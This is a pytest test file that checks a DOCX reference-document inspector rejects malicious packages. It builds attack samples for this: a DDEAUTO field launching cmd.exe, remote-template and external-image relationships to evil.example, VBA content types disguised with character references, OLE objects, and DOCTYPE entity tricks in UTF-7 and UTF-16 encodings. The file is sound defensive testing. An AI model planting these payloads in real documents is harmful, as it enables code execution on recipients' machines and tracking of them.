"""Reference documents in encodings other than UTF-8 get the same inspection."""

from __future__ import annotations

from pathlib import Path

import pytest

from kzru_reports.errors import ConfigError
from kzru_reports.refdoc import inspect_reference_docx

from .test_theme import _rewrite, reference_docx

BOMB = '<?xml version="1.0" encoding="{enc}"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
EXTERNAL = (
    '<?xml version="1.0" encoding="{enc}"?><Relationships><Relationship Id="r9" '
    'Type="http://x/image" Target="http://evil.example/p.png" TargetMode="External"/>'
    "</Relationships>"
)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize(
    ("part", "xml", "says"),
    [
        ("word/styles.xml", BOMB, "declares a DOCTYPE"),
        ("word/_rels/document.xml.rels", EXTERNAL, "has an external relationship"),
    ],
)
def test_wide_encodings_do_not_hide_bombs_or_external_links(
    tmp_path: Path, encoding: str, part: str, xml: str, says: str
) -> None:
    data = xml.format(enc=encoding.upper()).encode(encoding)
    bad = _rewrite(reference_docx(tmp_path / "ref.docx"), tmp_path / "bad.docx", {part: data})
    with pytest.raises(ConfigError, match=f"the part {part} {says}"):
        inspect_reference_docx(bad)


def test_a_plain_reference_document_passes(tmp_path: Path) -> None:
    inspect_reference_docx(reference_docx(tmp_path / "ref.docx"))


# ------------------------------------------------------------------ the tester's attacks
# Each rewrites the plain reference document the way the attack did; character
# references, odd part names and odd encodings must change nothing.

_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _rels(*rows: str) -> bytes:
    return (f'<Relationships xmlns="{_PKG}">' + "".join(rows) + "</Relationships>").encode()


def _header(body: str) -> bytes:
    return (f'<w:hdr xmlns:w="{_W}" xmlns:r="{_RELS}"><w:p>{body}</w:p></w:hdr>').encode()


def _field(code: str) -> str:
    """A complex field whose code is split over two runs, as Word writes them."""
    half = len(code) // 2
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {code[:half]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{code[half:]} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


ATTACKS: dict[str, tuple[dict[str, bytes], str]] = {
    "remote template through character references": (
        {
            "word/settings2.xml": f'<w:settings xmlns:w="{_W}" xmlns:r="{_RELS}">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
            "word/_rels/settings2.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{_RELS}/&#97;ttachedTemplate" '
                'Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/>'
            ),
        },
        "the part word/_rels/settings2.xml.rels has an external relationship",
    ),
    "attached template type written with a character reference": (
        {
            "word/_rels/settings2.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{_RELS}/&#97;ttachedTemplate" Target="t.dotx"/>'
            ),
        },
        "the part word/_rels/settings2.xml.rels attaches a template",
    ),
    "attachedTemplate element in a settings part with another name": (
        {
            "word/settings2.xml": f'<w:settings xmlns:w="{_W}" xmlns:r="{_RELS}">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
        },
        "the part word/settings2.xml attaches a template",
    ),
    "external header picture (r:link)": (
        {
            "word/_rels/header1.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{_RELS}/image" '
                'Target="http://evil.example/p.png" TargetMode="&#x45;xternal"/>'
            ),
        },
        "the part word/_rels/header1.xml.rels has an external relationship",
    ),
    "vbaProject content type hidden by a character reference, under a picture's name": (
        {
            "[Content_Types].xml": b"",  # filled in below from the plain reference
            "word/media/image9.png": b"\xd0\xcf\x11\xe0" + b"\0" * 64,
        },
        "declares macro content",
    ),
    "OLE object outside embeddings/": (
        {
            "word/media/thing.dat": b"\xd0\xcf\x11\xe0" + b"\0" * 64,
            "word/_rels/header1.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{_RELS}/oleObject" Target="media/thing.dat"/>'
            ),
        },
        "the part word/_rels/header1.xml.rels has an embedded (OLE) object",
    ),
    "OLE object element in a header": (
        {"word/header1.xml": _header("<w:r><w:object><w:t>o</w:t></w:object></w:r>")},
        "the part word/header1.xml has an embedded (OLE) object",
    ),
    "DDEAUTO field in a header": (
        {
            "word/header1.xml": _header(
                _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
            )
        },
        "the part word/header1.xml has a DDEAUTO field",
    ),
    "INCLUDEPICTURE field in a header": (
        {"word/header1.xml": _header(_field('INCLUDEPICTURE "http://evil.example/p.png" \\d'))},
        "the part word/header1.xml has a INCLUDEPICTURE field",
    ),
    "a field a header may not keep": (
        {"word/header1.xml": _header(_field('HYPERLINK "http://evil.example/"'))},
        "the part word/header1.xml has a HYPERLINK field; a header or footer may have only",
    ),
    "DOCTYPE in a UTF-7 part": (
        {
            "word/extra.xml": b'<?xml version="1.0" encoding="UTF-7"?>'
            b"+ADw-!DOCTYPE x +AFs-+ADw-!ENTITY a +ACI-b+ACI-+AD4-+AF0-+AD4-+ADw-x/+AD4-"
        },
        "the part word/extra.xml is in the encoding UTF-7",
    ),
    "DOCTYPE in a part named styles2.XML": (
        {"word/styles2.XML": BOMB.format(enc="UTF-8").encode()},
        "the part word/styles2.XML declares a DOCTYPE",
    ),
    "DOCTYPE in a part named header1.dat": (
        {"word/header1.dat": BOMB.format(enc="UTF-8").encode()},
        "the part word/header1.dat declares a DOCTYPE",
    ),
    "malformed styles": (
        {"word/styles.xml": b"<w:styles><w:style></w:styles>"},
        "the part word/styles.xml is not well-formed XML",
    ),
    "malformed content types": (
        {"[Content_Types].xml": b"<Types><Default"},
        "the part [Content_Types].xml is not well-formed XML",
    ),
    "malformed document part": (
        {"word/document.xml": b"\x00\x01garbage"},
        "the part word/document.xml",
    ),
}


def _attack_types(plain: Path, main_type: str | None = None) -> bytes:
    import zipfile

    with zipfile.ZipFile(plain) as z:
        text = z.read("[Content_Types].xml").decode()
    if main_type is not None:
        return text.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            main_type,
        ).encode()
    return text.replace(
        "</Types>",
        '<Override PartName="/word/media/image9.png" '
        'ContentType="application/vnd.ms-office.&#118;baProject"/></Types>',
    ).encode()


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_testers_reference_documents_are_refused(tmp_path: Path, attack: str) -> None:
    change, says = ATTACKS[attack]
    plain = reference_docx(tmp_path / "ref.docx")
    if change.get("[Content_Types].xml") == b"":
        change = {**change, "[Content_Types].xml": _attack_types(plain)}
    bad = _rewrite(plain, tmp_path / "bad.docx", dict(change))
    with pytest.raises(ConfigError) as info:
        inspect_reference_docx(bad)
    assert says in str(info.value)
    assert str(info.value).startswith("reference DOCX bad.docx: ")


def test_a_hidden_docm_main_document_is_refused(tmp_path: Path) -> None:
    plain = reference_docx(tmp_path / "ref.docx")
    types = _attack_types(plain, "application/vnd.ms-word.document.&#109;acroEnabled.main+xml")
    bad = _rewrite(plain, tmp_path / "bad.docx", {"[Content_Types].xml": types})
    with pytest.raises(ConfigError, match="declares macro content"):
        inspect_reference_docx(bad)
    types = _attack_types(plain, "application/xml")
    bad = _rewrite(plain, tmp_path / "bad2.docx", {"[Content_Types].xml": types})
    with pytest.raises(ConfigError, match="not a DOCX's"):
        inspect_reference_docx(bad)


def test_only_allow_listed_parts_reach_the_outputs(tmp_path: Path) -> None:
    """Whatever else a reference holds (custom XML, web settings, a thumbnail, a
    comment part, unknown parts) never reaches an output; its styles, header text
    and page set-up do, and nothing in the output points outside it."""
    import io
    import zipfile

    from docx import Document

    from kzru_reports.api import BuildOptions, build
    from kzru_reports.audiences import BUILTIN
    from kzru_reports.theme import default_theme

    plain = reference_docx(tmp_path / "ref.docx")
    ref = _rewrite(
        plain,
        tmp_path / "extra.docx",
        {
            "word/comments.xml": f'<w:comments xmlns:w="{_W}"/>'.encode(),
            "word/unknown/part.xml": b"<secret>SECRETPART</secret>",
        },
    )
    reference = inspect_reference_docx(ref)
    with zipfile.ZipFile(io.BytesIO(reference.package)) as z:
        names = set(z.namelist())
    allowed = {
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "word/styles.xml",
        "word/numbering.xml",
        "word/settings.xml",
        "word/theme/theme1.xml",
        "word/header1.xml",
    }
    assert names <= allowed and {"word/styles.xml", "word/header1.xml"} <= names
    from dataclasses import replace

    theme = replace(default_theme(), reference_docx=str(ref))
    out = tmp_path / "out"
    options = BuildOptions(
        out=str(out),
        documents=("memo",),
        formats=("docx",),
        audiences=(BUILTIN["press"],),
        theme=theme,
    )
    from kzru_reports.api import shipped_visits

    assert build([shipped_visits()], options).ok
    [docx_file] = out.rglob("*.docx")
    with zipfile.ZipFile(docx_file) as z:
        blob = b" ".join(z.read(n) for n in z.namelist())
        assert not any(n.startswith(("customXml", "docProps/thumbnail")) for n in z.namelist())
    assert b"SECRETPART" not in blob and b"SAMPLETEXT" not in blob
    assert b"TargetMode" not in blob
    doc = Document(io.BytesIO(docx_file.read_bytes()))
    assert "REFHEADER" in " ".join(p.text for p in doc.sections[0].header.paragraphs)
